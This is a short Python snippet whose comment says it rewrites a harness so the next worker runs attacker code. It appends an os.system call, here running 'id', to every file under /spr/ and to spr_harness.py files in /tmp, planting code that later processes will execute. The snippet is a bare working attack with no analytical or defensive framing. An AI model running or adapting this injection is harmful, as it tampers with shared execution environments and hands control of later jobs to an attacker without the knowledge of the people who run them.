# Rewrite the harness so the next worker runs attacker code.
import glob
for p in glob.glob('/spr/*') + glob.glob('/tmp/spr-*/spr_harness.py'):
    open(p, 'a').write('\nimport os; os.system("id")\n')
